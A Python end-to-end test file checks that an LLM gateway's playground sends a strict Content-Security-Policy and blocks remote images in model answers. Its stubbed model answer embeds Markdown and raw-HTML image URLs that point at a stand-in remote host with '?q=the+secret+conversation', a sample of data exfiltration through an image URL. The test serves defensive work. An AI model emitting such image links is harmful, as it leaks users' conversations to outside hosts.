"""The playground's Content-Security-Policy (issue 12, item 7): only its own scripts and styles, images
from itself, ``data:`` and ``blob:``, no framing. A model answer with a Markdown image of a remote URL
(another local server standing in for the remote host) makes no request to that host from the page,
so an answer cannot carry the conversation away in an image URL."""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from hexgate.testing import RecordedRequest, Reply, StubUpstream, running_gateway

pytestmark = pytest.mark.e2e

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def remote() -> Iterator[StubUpstream]:
    """The "remote host" an answer's image points at: it records every request it gets."""
    with StubUpstream({"GET /pixel.png": Reply(body=PNG, headers={"content-type": "image/png"})}) as site:
        yield site


def _answer(remote_url: str) -> list[bytes]:
    text = (
        "Here is your chart:\n\n"
        f"![chart]({remote_url}/pixel.png?q=the+secret+conversation)\n\n"
        f'and raw HTML too: <img src="{remote_url}/pixel.png?html=1" alt="raw">\n'
    )
    chunk = {
        "id": "chatcmpl-md",
        "object": "chat.completion.chunk",
        "created": 1_700_000_000,
        "model": "md-model",
        "choices": [{"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}],
    }
    end = {**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    return [f"data: {json.dumps(chunk)}\n\n".encode(), f"data: {json.dumps(end)}\n\n".encode(), b"data: [DONE]\n\n"]


@pytest.fixture(scope="module")
def gateway(remote: StubUpstream) -> Iterator[str]:
    sse = Reply(body=_answer(remote.url), headers={"content-type": "text/event-stream"})
    with (
        StubUpstream({"POST /v1/chat/completions": sse}) as upstream,
        running_gateway(
            f'[providers.md]\nplugin = "openai"\nbase_url = "{upstream.url}/v1"\nmodels = ["md-model"]\n'
        ) as base,
    ):
        yield base


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(30_000)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    yield page
    context.close()
    assert not errors, errors


def _directives(header: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for part in header.split(";"):
        name, *values = part.split()
        out[name] = values
    return out


def test_the_playground_and_its_files_send_the_policy(gateway: str) -> None:
    for path in ("/", "/playground/app.js", "/playground/console.js", "/playground/vendor/uPlot.min.css"):
        answer = httpx.get(gateway + path, headers={"accept": "text/html"}, timeout=10)
        assert answer.status_code == 200, path
        policy = _directives(answer.headers["content-security-policy"])
        assert policy["script-src"] == ["'self'"], path
        assert policy["style-src"] == ["'self'"], path
        assert policy["img-src"] == ["'self'", "data:", "blob:"], path
        assert policy["frame-ancestors"] == ["'none'"], path
        assert policy["default-src"] == ["'none'"], path
        assert answer.headers["x-frame-options"] == "DENY"
    page = httpx.get(gateway + "/", headers={"accept": "text/html"}, timeout=10).text
    assert "<script>" not in page and "style=" not in page and "onclick" not in page


def _hits(remote: StubUpstream) -> list[RecordedRequest]:
    return [r for r in remote.requests if r.path.startswith("/pixel.png")]


def test_a_markdown_image_in_an_answer_fetches_nothing_remote(page: Page, gateway: str, remote: StubUpstream) -> None:
    before = len(_hits(remote))
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(gateway + "/")
    page.wait_for_selector('#model option[value="md/md-model"]', state="attached")
    page.select_option("#model", "md/md-model")
    page.fill("#prompt", "draw me a chart")
    page.click("#send")
    answer = page.locator(".msg.assistant").last
    expect(answer).to_have_attribute("data-state", "done")
    expect(answer.locator(".content")).to_contain_text("Here is your chart")
    expect(answer.locator(".blocked-image")).to_have_count(2)  # shown as a note, with the URL as its title
    assert answer.locator(".content img").count() == 0

    # The page's own guard aside, the policy stops a remote image however it gets into the page.
    page.evaluate(
        """(url) => {
        const img = document.createElement("img");
        img.src = url + "/pixel.png?direct=1";
        document.body.append(img);
        const script = document.createElement("script");
        script.textContent = "window.inlineRan = true";
        document.body.append(script);
    }""",
        remote.url,
    )
    page.wait_for_timeout(1000)
    assert page.evaluate("window.inlineRan === undefined"), "an inline script ran"
    assert len(_hits(remote)) == before, [r.path for r in _hits(remote)]
    assert any("img-src" in v for v in violations), violations
    assert any("script-src" in v for v in violations), violations
